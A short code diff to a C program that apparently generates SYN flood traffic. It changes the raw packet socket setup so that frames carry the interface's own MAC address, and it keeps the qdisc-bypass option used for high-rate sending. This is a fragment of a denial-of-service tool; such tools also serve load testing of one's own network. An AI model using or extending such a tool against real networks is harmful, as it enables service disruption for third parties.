@@ -18,6 +18,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <time.h>
 
@@ -130,19 +131,24 @@ static int send_frames(struct flood *flood, double seconds, uint64_t packets)
 	return 0;
 }
 
-static int open_socket(const char *interface)
+/* Also sets the source address of the link header. */
+static int open_socket(const char *interface, struct ether_header *ethernet)
 {
 	const struct sockaddr_ll address = {
 		.sll_family = AF_PACKET,
 		.sll_ifindex = (int)if_nametoindex(interface),
 	};
 	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
+	struct ifreq own = { 0 };
 	int on = 1;
 
-	if (fd < 0 || !address.sll_ifindex ||
+	strncpy(own.ifr_name, interface, sizeof(own.ifr_name) - 1);
+
+	if (fd < 0 || !address.sll_ifindex || ioctl(fd, SIOCGIFHWADDR, &own) ||
 	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)) ||
 	    bind(fd, (const struct sockaddr *)&address, sizeof(address)))
 		return -1;
+	memcpy(ethernet->ether_shost, own.ifr_hwaddr.sa_data, ETH_ALEN);
 	return fd;
 }
 
@@ -200,7 +206,7 @@ int main(int argc, char **argv)
 			SECONDS_MAX);
 		return 2;
 	}
-	flood.fd = open_socket(argv[1]);
+	flood.fd = open_socket(argv[1], &flood.model.ethernet);
 	if (flood.fd < 0 || send_frames(&flood, seconds, packets)) {
 		perror("syn_flood");
 		return 1;
